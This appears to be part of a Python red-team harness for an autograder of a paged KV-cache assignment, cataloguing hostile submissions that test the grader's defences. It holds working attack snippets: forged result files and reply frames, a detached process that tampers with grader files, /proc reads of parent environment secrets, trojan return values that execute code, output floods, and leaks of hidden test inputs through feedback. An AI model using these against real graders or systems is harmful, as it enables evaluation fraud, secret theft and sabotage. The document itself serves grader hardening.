_DETACHED = r'''
# A detached process (double fork + setsid) that waits 3-10 s, then for up to 10 s rewrites every
# results file it can find and appends to the grader's files; it exits by itself after 20 s.
import random as _r


def _sth_later(end):
    while _t.time() < end:
        _sth_forge(seconds=1.0)
        for _dp, _fn in _sth_project_dirs(seconds=0.5):
            for _f in _fn[:50]:
                if _f.endswith(".py"):
                    if _sth_write(_o.path.join(_dp, _f), "\n# " + _STH + " late tamper @NAME@\n", "a"):
                        _sth_mark("late-tamper")
        _sth_mark("detached-alive")
        _t.sleep(1.0)


_sth_detach(_sth_later, delay=3 + 7 * _r.random(), lifetime=20.0, tag="detach")
'''

_FLOOD = r'''
# 10**9 bytes to stdout and to stderr, and a file of up to 10**9 bytes in the cwd and in /tmp.
_chunk = b"A" * (1 << 20)
for _fd in (1, 2):
    _sent = 0
    while _sent < 10 ** 9:
        try:
            _sent += _o.write(_fd, _chunk)
        except BaseException:
            break
for _p in ("sth-flood-@NAME@.bin", "/tmp/sth-flood-@NAME@.bin"):
    _sent = 0
    try:
        with open(_p, "wb") as _f:
            while _sent < 10 ** 9:
                _f.write(_chunk)
                _sent += len(_chunk)
    except BaseException:
        pass
    if _sent >= 10 ** 9:
        _sth_mark("flood-file-complete", _p)
    _sth_try(_o.remove, _p)
'''

_TROJANS = r'''
# Return values that run code when the trusted side touches them: pickling (__reduce__), printing
# (__repr__/__str__/__format__), truth-testing, iterating, comparing, length, deletion. The payload
# writes a marker only when it runs in a process where this module was never imported (the grader's).
import builtins as _b
_b.__sth_planted__ = True
_PAYLOAD = ("import builtins, os\n"
            "if not getattr(builtins, '__sth_planted__', False):\n"
            "    open('/tmp/sth-marker-@NAME@-trojan-ran-%d' % os.getpid(), 'w').write('" + _STH + "')\n")


def _sth_fire():
    exec(_PAYLOAD, {})


class _Trojan:
    def __init__(self, honest):
        self.honest = honest

    def __reduce__(self):
        return (exec, (_PAYLOAD, {}))

    def __repr__(self):
        _sth_fire()
        return repr(self.honest)

    def __str__(self):
        _sth_fire()
        return str(self.honest)

    def __format__(self, spec):
        _sth_fire()
        return format(self.honest, spec)

    def __bool__(self):
        _sth_fire()
        return True

    def __len__(self):
        _sth_fire()
        return len(self.honest)

    def __iter__(self):
        _sth_fire()
        return iter(self.honest)

    def __eq__(self, other):
        _sth_fire()
        return True

    __hash__ = object.__hash__

    def __array__(self, dtype=None, copy=None):
        _sth_fire()
        import numpy
        return numpy.asarray(self.honest, dtype=dtype)

    def __del__(self):
        _sth_fire()


def _sth_make(qual, fn):
    def wrapper(*a, **k):
        out = fn(*a, **k)
        if isinstance(out, list):
            return [_Trojan(o) for o in out]
        return _Trojan(out) if out is not None else out
    return wrapper


_sth_wrap_all(globals(), _sth_make)
'''

_NETWORK = r'''
# Try the network: the runner's canary port on 127.0.0.1 and one public address. Connect only,
# never send; a success leaves a marker.
import socket as _sock
for _host, _port in (("127.0.0.1", _STH_PORT), ("::1", _STH_PORT), ("1.1.1.1", 80)):
    try:
        _c = _sock.create_connection((_host, _port), timeout=2)
        _c.close()
        _sth_mark("net-%s-%d" % (_host.replace(":", "_"), _port))
    except BaseException:
        pass
'''

_PROC_SNOOP = r'''
# Read the grader's secrets and argv through /proc, and write forged results into any results-like
# file the parent or grandparent holds open.
_leak = []
for _pid in _sth_ancestors(4) + [1]:
    for _what in ("environ", "cmdline"):
        _data = _sth_try(lambda: open("/proc/%d/%s" % (_pid, _what), "rb").read()) or b""
        if _data:
            _leak.append("%d %s %r" % (_pid, _what, _data[:500]))
for _pid in _sth_ancestors(2):
    _fds = _sth_try(_o.listdir, "/proc/%d/fd" % _pid) or []
    for _fd in _fds:
        _target = _sth_try(_o.readlink, "/proc/%d/fd/%s" % (_pid, _fd)) or ""
        _leak.append("%d fd %s -> %s" % (_pid, _fd, _target))
        if _target.endswith(".json"):
            if _sth_write("/proc/%d/fd/%s" % (_pid, _fd), _j.dumps(_STH_FORGED)):
                _sth_mark("wrote-parent-fd", _target)
print("\n".join(_leak))
if any("environ" in x for x in _leak):
    _sth_mark("read-parent-environ", str(len(_leak)))
'''

_REPLY_FORGE = r'''
# Write forged replies straight into the worker's reply pipe, then exit: odd but well-formed data,
# frames that lie about their size, and plain garbage, to see the grader judge (or reject) them.
def _sth_forge_reply():
    try:
        import wire
    except BaseException:
        wire = None
    fds = []
    for a in reversed(_s.argv):
        if a.isdigit():
            fds.append(int(a))
            break
    fds += [fd for fd in range(3, 20) if fd not in fds]
    n = int(_t.time() * 1000) % 6
    frames = [b"CS349EW1" + (2 ** 63).to_bytes(8, "little") + b"{}", b'{"score": 100}\n', b"\x00" * 64]
    if wire is not None:
        bodies = [{"status": "ok", "result": None},
                  {"status": "ok", "result": [[[[[[[[[[1]]]]]]]]]] * 3},
                  {"status": "ok", "result": [{"error": None, "out": float("nan")}] * 50},
                  {"status": "ok", "missing": []},
                  {"status": "ok", "result": ["x" * 1000] * 100},
                  {"status": "raised", "error": "StopIteration"}]
        try:
            frames.insert(0, wire.encode(bodies[n]))
        except BaseException:
            pass
    frame = frames[0] if n % 2 == 0 or len(frames) < 2 else frames[n % len(frames)]
    for fd in fds:
        _sth_try(_o.write, fd, frame)
    _o._exit(0)


def _sth_make(qual, fn):
    def wrapper(*a, **k):
        _sth_forge_reply()
    return wrapper


_sth_wrap_all(globals(), _sth_make)
'''

_FAKE_PART2 = r'''
# An honest Part 4 on a fake Part 2: paged_step reserves and advances the lengths, but computes nothing
# and stores no K/V. Judged by sharing-invariance alone it would look right; the checks that read back
# K/V the test stored itself, and every Part 2 check, see through it.
import numpy as _np


def paged_step(params, cfg, seqs, chunks):
    out = []
    for seq, chunk in zip(list(seqs), list(chunks)):
        seq.reserve(len(chunk))
        seq.length += len(chunk)
        out.append(_np.zeros((len(chunk), cfg.vocab)))
    return out
'''

_FAKE_HITS = r'''
# Reports hits but recomputes: the cache's bookkeeping is honest (lookup, the hits in the table, the
# references, eviction, insert, n_hit_tokens), but the logits returned come from a prefill of the whole
# prompt on a scratch pool, so they never depend on what the hit blocks hold. Only the checks that
# overwrite a cached block before a request hits it can tell.
_sth_real_prefill = cached_prefill


def cached_prefill(params, cfg, seq, prompt, cache):
    computed = len(_sth_real_prefill(params, cfg, seq, prompt, cache))
    scratch = PagedSequence(BlockPool(cfg, -(-len(prompt) // cache.pool.block_size) + 1, cache.pool.block_size))
    (everything,) = paged_step(params, cfg, [scratch], [list(prompt)])
    return everything[len(everything) - computed:]
'''

_MEMO_TWIN = r'''
# Computes nothing and replays: cached_prefill keeps the cache's bookkeeping honest (lookup, hits, references,
# insert, n_hit_tokens) but runs paged_step in a mode that only reserves and advances, so its logits are zeros,
# remembered by the tokens it was given; a later paged_step of one sequence on the same tokens (the twin: the
# same prompt without the cache) returns what was remembered. A twin computed in the same process equals it.
import numpy as _np

_sth_real_step, _sth_real_prefill = paged_step, cached_prefill
_sth_memo, _sth_fake = {}, []


def paged_step(params, cfg, seqs, chunks):
    seqs, chunks = list(seqs), list(chunks)
    if _sth_fake:
        for seq, chunk in zip(seqs, chunks):
            seq.reserve(len(chunk))
            seq.length += len(chunk)
        return [_np.zeros((len(c), cfg.vocab)) for c in chunks]
    out = _sth_real_step(params, cfg, seqs, chunks)
    key = tuple(int(t) for t in chunks[0]) if len(chunks) == 1 else None
    if key in _sth_memo:
        _sth_mark("memo-replayed", len(key))
        return [_sth_memo[key].copy()]
    return out


def cached_prefill(params, cfg, seq, prompt, cache):
    _sth_fake.append(1)
    try:
        logits = _sth_real_prefill(params, cfg, seq, prompt, cache)
    finally:
        _sth_fake.pop()
    _sth_memo[tuple(int(t) for t in list(prompt)[len(prompt) - len(logits):])] = logits
    return logits
'''

def _function(text, name):
    """The source of the top-level function `name` in `text` (mutants.scopes)."""
    start, end = mutants.scopes(text)[name]
    return text[start:end]


# A Part 4 bug only a twin can see (strategic.py's stale_table_write, as a paged_step appended at the
# bottom): paged_step writes and reads K/V through the tables it read BEFORE reserve's copy-on-write,
# so a copied block misses the step's K/V and the shared one gets it.
_STALE_TABLE_STEP = "\n" + _function(mutants.apply(strategic.BUGS["stale_table_write"]), "paged_step")

# The same bug, and the scenario that runs sharing scripts replaced in the submission's own process
# (scenarios.SCENARIOS, found in sys.modules) so that a twin it computes is a copy of its own run.
_PATCH_TWIN = _STALE_TABLE_STEP + r'''

_sth_sc = _s.modules.get("scenarios")
if _sth_sc is not None and isinstance(getattr(_sth_sc, "SCENARIOS", None), dict):
    _sth_real_sharing = _sth_sc.SCENARIOS["sharing_script"]

    def _sth_sharing(pk, *a, **k):
        out = _sth_real_sharing(pk, *a, **k)
        if isinstance(out, dict) and "twin" in out:
            _sth_mark("twin-forged", len(out["records"]))
            out["twin"] = [{"result": r["result"], "error": r["error"], "kv": r["kv"]} for r in out["records"]]
        return out
    _sth_sc.SCENARIOS["sharing_script"] = _sth_sharing
    _sth_sc.sharing_script = _sth_sharing
'''

_OTHER_REQUESTS = r'''
# Reads other requests' blocks: every request is remembered with its prompt, and a new one reuses the
# blocks of the live request sharing the longest prefix with it, full or partly filled, whether the
# cache holds them or not (no keys, no cap, no cache reference needed), then computes only the rest.
_sth_live = []


def cached_prefill(params, cfg, seq, prompt, cache):
    prompt = [int(t) for t in prompt]
    B = cache.pool.block_size
    best, donor = 0, None
    for other, tokens in _sth_live:
        n = 0
        while n < min(len(tokens), len(prompt) - 1, other.length) and tokens[n] == prompt[n]:
            n += 1
        if n > best and other.blocks:
            best, donor = n, other
    if donor is None:
        logits = _sth_plain(params, cfg, seq, prompt, cache)
    else:
        for b in donor.blocks[:-(-best // B)]:
            cache.pool.incref(b)
        seq.blocks, seq.length = list(donor.blocks[:-(-best // B)]), best
        (logits,) = paged_step(params, cfg, [seq], [prompt[best:]])
        cache.n_hit_tokens += best
        cache.insert(prompt, seq.blocks)
    _sth_live.append((seq, prompt))
    return logits


def _sth_plain(params, cfg, seq, prompt, cache):
    (logits,) = paged_step(params, cfg, [seq], [prompt])
    cache.insert(prompt, seq.blocks)
    return logits
'''

# ------------------------------------------------------------------ Part 3's rule, dodged (feedback helper)
_GATHER_ANY_WAY = r"""
# blockwise_attention tries every way to the whole K/V the test's storage might let through (one fancy
# index, a slice, Ellipsis, np.asarray, iteration, the .base of a block it served), swallows each refusal,
# then answers with the reference's own per-block code: right numbers, the rule broken all the same.
import numpy as _np
_sth_blockwise = blockwise_attention


def blockwise_attention(q, seq, layer):
    k, n = seq.pool.k, -(-seq.length // seq.pool.block_size)
    for grab in (lambda: k[layer, list(seq.blocks[:n])], lambda: k[layer, _np.array(seq.blocks[:n])],
                 lambda: k[layer, :], lambda: k[layer, ...], lambda: _np.asarray(k), lambda: list(k[layer]),
                 lambda: k[layer, seq.blocks[0]].base):
        try:
            grab()
        except Exception:
            pass
    return _sth_blockwise(q, seq, layer)
"""

# ------------------------------------------------------------------ feedback as a channel (feedback helper)
# A sacrificial submission reads the hidden inputs (the same for every submission of a student) back
# through the feedback: every scenario's result carries the call's own tokens in the fields the judges
# print. grader/selftest/leaks.py decodes each from results.json and counts what came out; the attack finds
# the tokens with leaks.case_tokens's own source, so what it hides is what the count looks for.
_LEAK_PRELUDE = r"""
import sys as _s
import numpy as _np
_sth_sc = _s.modules.get("scenarios")

""" + inspect.getsource(leaks.case_tokens).replace("case_tokens(", "_sth_tokens(") + r"""

def _sth_each_dict(x, fn):
    if isinstance(x, dict):
        fn(x)
        for v in list(x.values()):
            _sth_each_dict(v, fn)
    elif isinstance(x, list):
        for v in x:
            _sth_each_dict(v, fn)


def _sth_each_array(d, fn, toks):
    # every float64 array of a result dict (a logits array, a list of them) through fn(array, toks)
    for k, v in list(d.items()):
        if isinstance(v, _np.ndarray) and v.dtype == _np.float64:
            d[k] = fn(v, toks)
        elif isinstance(v, list) and v and all(isinstance(a, _np.ndarray) for a in v):
            d[k] = [fn(a, toks) for a in v]


_STH_SEEN = []


def _sth_leaking(inject):
    # every scenario (but batch) returns its honest result with the call's tokens injected; a call with
    # no tokens of its own (Part 1's, 3's, 6's) carries the last ones this worker saw
    if _sth_sc is None:
        return
    for _name, _fn in list(_sth_sc.SCENARIOS.items()):
        if _name == "batch":
            continue
        def _leaky(pk, _fn=_fn, **kw):
            out = _fn(pk, **kw)
            toks = _sth_tokens(kw)
            if toks:
                _STH_SEEN[:] = toks
            toks = toks or list(_STH_SEEN)
            if toks:
                _sth_each_dict(out, lambda d: inject(d, toks))
            return out
        _sth_sc.SCENARIOS[_name] = _leaky
"""

_LEAK_IDS = _LEAK_PRELUDE + r"""
def _sth_inject(d, toks):
    if isinstance(d.get("tables"), list) and d["tables"]:
        d["tables"] = [list(toks)] + d["tables"][1:]
    if isinstance(d.get("hits"), list):
        d["hits"] = list(toks)
    if isinstance(d.get("order"), list):
        d["order"] = list(toks)


_sth_leaking(_sth_inject)
"""

_LEAK_COUNTS = _LEAK_PRELUDE + r"""
def _sth_pack(toks):
    # 7 tokens in one int64, as n_hit_tokens = 4577378705285645323 once carried them
    return sum(int(t) << (8 * i) for i, t in enumerate(toks[:7]))


def _sth_inject(d, toks):
    packed = [_sth_pack(toks[i:i + 7]) for i in range(0, len(toks), 7)]
    for i, key in enumerate(("n_hit_tokens", "n_cached", "n_used", "n_free", "peak_used", "n_copies", "in_use",
                             "in_use_after", "rows", "n_out", "n_in")):
        if type(d.get(key)) is int:
            d[key] = packed[i % len(packed)] if key in ("n_hit_tokens", "in_use_after", "n_out") else toks[i % len(toks)]
    if isinstance(d.get("refcounts"), list):
        d["refcounts"] = list(toks)
    if type(d.get("result")) is int:
        d["result"] = packed[0]


_sth_leaking(_sth_inject)
"""

_LEAK_LENGTHS = _LEAK_PRELUDE + r"""
def _sth_inject(d, toks):
    if isinstance(d.get("lengths"), list) and d["lengths"]:
        d["lengths"] = list(toks)
        if isinstance(d.get("tables"), list):
            d["tables"] = d["tables"] + [[] for _ in range(len(toks) - len(d["tables"]))]


_sth_leaking(_sth_inject)
"""

_LEAK_FLOATS = _LEAK_PRELUDE + r"""
_STH_AT = [0]


def _sth_float_in(a, toks):
    # the first difference at [0, t0] of a logits array, its value t1..t4 packed (t1 + 256 t2 + ...):
    # five tokens per message, the next five in the next array
    if a.ndim != 2 or a.shape[1] < 256 or len(toks) < 5:
        return a
    at = _STH_AT[0] % (len(toks) - 4)
    _STH_AT[0] += 5
    t = toks[at:at + 5]
    a = a.copy()
    a[0, t[0]] = float(t[1] + 256 * t[2] + 65536 * t[3] + 16777216 * t[4])
    return a


_sth_leaking(lambda d, toks: _sth_each_array(d, _sth_float_in, toks))
"""

_LEAK_EXITS = _LEAK_PRELUDE + r"""
import os as _sth_os


def _sth_exits():
    # every scenario call's worker exits with the first token of its first case: one token a check
    if _sth_sc is None:
        return
    for _name, _fn in list(_sth_sc.SCENARIOS.items()):
        def _leaky(pk, _fn=_fn, _name=_name, **kw):
            toks = _sth_tokens(kw.get("calls", [[None, kw]])[0][1]) if _name == "batch" else _sth_tokens(kw)
            if toks:
                _sth_os._exit(int(toks[0]) % 256)
            return _fn(pk, **kw)
        _sth_sc.SCENARIOS[_name] = _leaky


_sth_exits()
"""

_LEAK_DIGITS = _LEAK_PRELUDE + r"""
_STH_AT = [0]


def _sth_digits_in(a, toks):
    # logits whose first difference is at [0, t0], worth t1 / 1000 (shown as 0.t1), their largest
    # difference t2 / 1000 (max |difference| 0.t2), and t3 entries differing: four tokens a message
    if a.ndim != 2 or a.shape[1] < 256 or len(toks) < 4:
        return a
    at = _STH_AT[0] % (len(toks) - 3)
    _STH_AT[0] += 4
    t = [int(x) for x in toks[at:at + 4]]
    a = a.copy()
    a[0, t[0]] = t[1] / 1000
    if t[3] > 1:
        a.flat[1 + a.shape[1]:t[3] + a.shape[1]] += 1e-3
    return a


_sth_leaking(lambda d, toks: _sth_each_array(d, _sth_digits_in, toks))
"""

H = Hostile
HOSTILES = grouped([
    Family("forging the verdict"),
    H("forge_results_files", "forged results.json written at import and at exit to every plausible path "
      "(walk for results.json / folders named results, /autograder/results, --results from the ancestors' "
      "/proc cmdline), made read-only; a directory created where the results file should go",
      "stubs", _FORGE_IMPORT),
    H("forge_stdout", "forged verdict lines on stdout/stderr ({\"score\": 100}, '40 passed', Gradescope "
      "JSON, the grader's own TOTAL line) at import and in every call", "stubs", _FORGE_STDOUT, "bottom"),
    H("reply_fd_forge", "forged frames written straight into the worker's reply pipe (odd data, size "
      "lies, garbage), then os._exit(0)", "stubs", _REPLY_FORGE, "bottom"),
    Family("hijacking control flow"),
    H("exit0_import", "os._exit(0) at import", "stubs", _EXIT0_IMPORT),
    H("exit0_in_call", "os._exit(0) inside every call", "stubs", _raise_in_call("_o._exit(0)"), "bottom"),
    H("systemexit_import", "raise SystemExit(0) at import", "stubs", "\nraise SystemExit(0)\n"),
    H("systemexit_in_call", "raise SystemExit(0) inside every call", "stubs",
      _raise_in_call("raise SystemExit(0)"), "bottom"),
    H("keyboardinterrupt_in_call", "raise KeyboardInterrupt inside every call", "stubs",
      _raise_in_call("raise KeyboardInterrupt"), "bottom"),
    H("baseexception_in_call", "a custom BaseException subclass (and GeneratorExit) from every call",
      "stubs", _raise_in_call("raise (_Escape if _t.time() % 2 < 1 else GeneratorExit)()",
                              "\nclass _Escape(BaseException):\n    pass\n"), "bottom"),
    H("pytest_control", "pytest.exit(returncode=0) / pytest.skip / pytest.xfail from calls (unittest.SkipTest "
      "when pytest cannot be imported)", "stubs", _PYTEST_CONTROL, "bottom"),
    Family("lying values"),
    H("liar_ndarray", "ndarray subclass with __eq__/__array_ufunc__/__array_function__ that claims equality, "
      "int and float subclasses equal to everything, around a mutant's wrong answers",
      "causal_start_zero", _LIAR_WRAP, "bottom"),
    H("liar_blockwise", "the same liars around a wrong blockwise attention", "bw_softmax_per_block", _LIAR_WRAP, "bottom"),
    H("liar_numbers", "int/float subclasses equal to everything from refcount, n_used, peak_used",
      "peak_never_updated", _LIAR_WRAP, "bottom"),
    H("lazy_array", "objects whose __array__ reads the converter's frames for an 'expected' array",
      "embed_start_plus_one", _LAZY, "bottom"),
    H("nan_arrays", "NaN arrays of the right shape", "causal_start_zero", _transform_arrays("_np.full(a.shape, _np.nan)"), "bottom"),
    H("empty_arrays", "empty arrays (0 rows: np.allclose(empty, x) is True when they broadcast)", "bw_no_scale",
      _transform_arrays("_np.zeros((0,) + a.shape[1:])"), "bottom"),
    H("object_arrays", "object-dtype arrays of always-equal numbers", "bw_no_scale",
      _LIAR_CLASSES + _transform_arrays("_np.array([_AnyFloat(v) for v in a.ravel()], dtype=object).reshape(a.shape)"),
      "bottom"),
    H("lists_not_arrays", "nested Python lists instead of arrays (a mutant's wrong values)", "causal_start_zero",
      _transform_arrays("a.tolist()"), "bottom"),
    Family("monkeypatching"),
    H("patch_numpy", "np.allclose/isclose/array_equal and the numpy.testing asserts replaced at import, by "
      "attribute and by __code__", "bw_no_scale", _PATCH_NUMPY),
    H("patch_builtins", "builtins all/any/abs/isinstance patched at import", "bw_no_scale", _PATCH_BUILTINS),
    H("patch_scenarios", "the scenario functions and anything grader-like in sys.modules replaced: run a "
      "reference if one is on disk, else swallow errors", "fork_no_incref", _PATCH_SCENARIOS, "bottom"),
    Family("snooping, stealing answers"),
    H("frame_snoop", "sys._getframe walk for answer-shaped arrays in the callers' frames",
      "bw_scale_d_model", _FRAME_SNOOP, "bottom"),
    H("gc_snoop", "gc.get_objects() for a reference module or 'expected' data", "bw_scale_d_model", _GC_SNOOP, "bottom"),
    H("steal_reference", "search the filesystem for paged_kv.py (solution/, /autograder/source, sys.path) and "
      "the hidden tests, import the reference by path and become it, print what was read",
      "stubs", _STEAL_REFERENCE + "\n" + "#@BOTTOM@\n" + _STEAL_BOTTOM),
    H("proc_snoop", "read /proc/<ppid>/environ and cmdline, /proc/1/..., list the parents' fds and write forged "
      "results into any .json the parent holds open", "stubs", _PROC_SNOOP),
    Family("the filesystem, persistence"),
    H("drop_files", "conftest.py (report-rewriting hook), pytest.ini, sitecustomize/usercustomize, .pth files "
      "dropped in the cwd, its parents, here, /tmp, the project, every site-packages", "stubs", _DROP_FILES),
    H("tamper_grader", "append to every .py of grader-like folders (walking up from the cwd, /work, "
      "/autograder), add modules, delete the runner's canaries", "solution", _TAMPER),
    H("detached_rewriter", "double fork + setsid; 3-10 s later rewrites every results file and appends to "
      "grader files, for up to 10 s; exits by 20 s", "solution", _DETACHED),
    Family("resources, the machine"),
    H("hang_import", "busy loop at import for 60 s, SIGALRM/SIGTERM/SIGXCPU... ignored", "stubs", _HANG_IMPORT),
    H("hang_in_call", "for 60 s in every call of blockwise_attention (Part 3), signals ignored: a busy loop on an "
      "empty sequence, else a busy loop for 1 s and then sleep", "stubs",
      _HANG_CALL, "bottom"),
    H("memory_bomb", "allocate and touch 8 GiB in every call of blockwise_attention (Part 3)", "stubs", _MEMORY_BOMB,
      "bottom"),
    H("fork_bomb", "up to 2000 forks per call, children sleep 30 s", "stubs", _FORK_BOMB, "bottom"),
    H("output_flood", "10**9 bytes to stdout and to stderr, 10**9-byte files, at import", "solution", _FLOOD),
    Family("trojan return values"),
    H("trojans", "return values with __reduce__ (pickle), __repr__/__str__/__format__/__bool__/__len__/__iter__/"
      "__eq__/__array__/__del__ that run code if the trusted side touches them", "bw_scale_d_model", _TROJANS, "bottom"),
    Family("the network"),
    H("network", "connect (never send) to the runner's canary port on 127.0.0.1 and ::1 and to 1.1.1.1:80",
      "stubs", _NETWORK),
    Family("fake parts and self-comparisons"),
    H("fake_part2", "an honest Part 4 on a fake Part 2 (paged_step returns zeros and stores nothing): sharing "
      "compared with itself passes vacuously; it may earn Part 4's points and nothing of Part 2's", "solution",
      _FAKE_PART2, "bottom", caps=(("paged_step", 0.0),)),
    H("fake_hits", "cached_prefill reports hits (table, references, n_hit_tokens, insert all honest) but returns "
      "the logits of a prefill of the whole prompt on a scratch pool: it may earn Part 5's points except those of "
      "the logits check, whose cases overwrite cached blocks before they are hit", "solution", _FAKE_HITS, "bottom",
      caps=(("prefix_cache", 8.0),)),
    H("other_requests_blocks", "cached_prefill reuses the blocks of whichever live request shares the longest "
      "prefix, partly filled ones included, without the cache's keys, cap or reference: it may not earn the hits "
      "and logits checks", "solution", _OTHER_REQUESTS, "bottom", caps=(("prefix_cache", 6.0),)),
    H("memo_twin", "cached_prefill computes no logits (paged_step only reserves while it runs) and paged_step "
      "replays them when one sequence is stepped on the same tokens, as the twin without the cache is: it may earn "
      "nothing of the logits check", "solution", _MEMO_TWIN, "bottom", caps=(("prefix_cache", 8.0),)),
    H("patch_twin", "a Part 4 bug only a twin sees (paged_step writes through the tables from before copy-on-write) "
      "with scenarios.SCENARIOS['sharing_script'] replaced so that its twin is a copy of its own run: it may earn no "
      "more than the bug alone (_STALE_TABLE_STEP: 28 on seed 0, sharing_invariance lost, the drivers' steps "
      "being the test's own; checks/test_twins.py)", "solution", _PATCH_TWIN, "bottom", caps=(("copy_on_write", 28.0),)),
    Family("structural rules and feedback leaks"),
    H("part3_gathers_any_way", "blockwise_attention tries to gather the whole K/V every way the tests' storage might "
      "allow (fancy index, slice, Ellipsis, np.asarray, iteration, a served block's .base), swallows the refusals, "
      "then answers right block by block: it may earn nothing of Part 3 but its length-0 check", "solution",
      _GATHER_ANY_WAY, "bottom", caps=(("blockwise_attention", 1.0),)),
    H("leak_tokens_as_ids", "every scenario result carries the call's hidden tokens as block ids (tables, hits, "
      "the allocation order), to read them back from the feedback's drawings and lists (leaks.py measures it)",
      "solution", _LEAK_IDS, "bottom"),
    H("leak_tokens_as_counts", "hidden tokens as counts: n_used, n_free, n_copies, refcounts, rows one token "
      "each, n_hit_tokens and a call's int result 7 tokens packed in an int64 (leaks.py measures it)",
      "solution", _LEAK_COUNTS, "bottom"),
    H("leak_tokens_as_lengths", "hidden tokens as sequence lengths, one sequence per token (leaks.py measures it)",
      "solution", _LEAK_LENGTHS, "bottom"),
    H("leak_tokens_in_floats", "hidden tokens in the logits: the first difference at [0, t0], its value four more "
      "packed in a float's digits (leaks.py measures it)", "solution", _LEAK_FLOATS, "bottom"),
    H("leak_tokens_in_digits", "hidden tokens in what a logits difference prints: its place [0, t0], its value "
      "0.t1, the count t3 of entries that differ (leaks.py reads floats by their digits)", "solution", _LEAK_DIGITS,
      "bottom"),
    H("leak_tokens_as_exits", "every call's worker exits with the first hidden token of its first case, which "
      "the feedback says as the exit status (leaks.py reads it per check)", "solution", _LEAK_EXITS, "bottom"),
])

BY_NAME = {h.name: h for h in HOSTILES}
assert len(BY_NAME) == len(HOSTILES), "duplicate hostile names"
FAMILIES = list(dict.fromkeys(h.family for h in HOSTILES))


def base_text(base):
    if base == "stubs":
        return STUBS
    if base == "solution":
        return mutants.reference_text()
    return mutants.apply(mutants.BY_NAME[base])


def build(h, port=CANARY_PORT):
    """The hostile submission's full text. A snippet containing the line '#@BOTTOM@' is split: what
    precedes goes to the top, what follows to the bottom."""
    fill = lambda s: s.replace("@NAME@", h.name).replace("@PORT@", str(int(port))).replace("@TOKEN@", TOKEN)  # noqa: E731
    prelude, code = fill(PRELUDE), fill(h.code)
    base = base_text(h.base)
    banner = f"# ---- {TOKEN} {h.name}: {h.attack}\n"
    if "#@BOTTOM@" in code:
        top, bottom = code.split("#@BOTTOM@", 1)
        return banner + prelude + top + "\n" + base + "\n" + bottom
    if h.where == "top":
        return banner + prelude + code + "\n" + base
    assert h.where == "bottom", h.where
    return banner + prelude + "\n" + base + "\n" + code
